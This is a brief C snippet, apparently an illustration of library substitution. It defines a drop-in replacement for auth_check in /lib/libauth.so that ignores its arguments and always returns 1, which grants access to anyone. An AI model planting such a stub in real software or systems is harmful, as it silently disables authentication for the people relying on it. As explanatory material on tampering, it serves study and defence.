// auth_changed: what somebody might put in the place of /lib/libauth.so. Same name, same function, another answer.
int auth_check(const char *user, const char *password)
{
    (void)user;
    (void)password;
    return 1;
}
